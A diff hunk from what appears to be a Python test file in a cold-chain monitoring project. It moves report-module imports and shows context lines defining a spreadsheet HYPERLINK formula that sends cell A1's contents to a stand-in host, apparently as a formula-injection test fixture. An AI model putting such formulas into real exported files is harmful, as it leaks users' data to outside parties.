@@ -15,8 +15,8 @@ from coldchain.judgement.verdict import TimerVerdict
 from coldchain.reading import Flag, Reading
 from helpers.evidence_case import evidence_on, moved_fleet
 from helpers.small_fleet import HOUR, MINUTE, NOW
-from reports.build import build_report
-from reports.document import Act, Hole, Out, Report
+from reports.content.build import build_report
+from reports.content.document import Act, Hole, Out, Report
 
 FORMULA = '=HYPERLINK("http://x.test/?"&A1,"see")'
 NASTY = (
